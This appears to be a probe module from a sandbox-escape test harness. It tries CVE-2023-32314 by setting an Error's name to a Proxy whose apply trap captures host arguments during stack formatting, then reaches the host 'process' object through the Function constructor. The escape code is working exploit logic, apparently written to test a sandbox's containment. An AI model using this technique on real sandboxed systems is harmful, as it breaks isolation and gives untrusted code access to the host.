// Escape attempt: CVE-2023-32314 (GHSA-whpj-8f3w-67p5): an error whose name.toString is a Proxy; its apply trap gets the host arguments object while the stack is formatted.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-proxy-error-name',
  description: 'sandbox escape attempt: proxy-error-name',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const err = new Error();
    err.name = { toString: new Proxy(() => "", { apply(target, thiz, args) { attempt(notes, "args", () => pwn(args.constructor.constructor("return process")(), marker, notes, "apply args")); return ""; } }) };
    attempt(notes, "stack", () => err.stack);
    attempt(notes, "host format", () => __send(err));
    return { summary: notes.join(' | '), data: notes };
  },
};
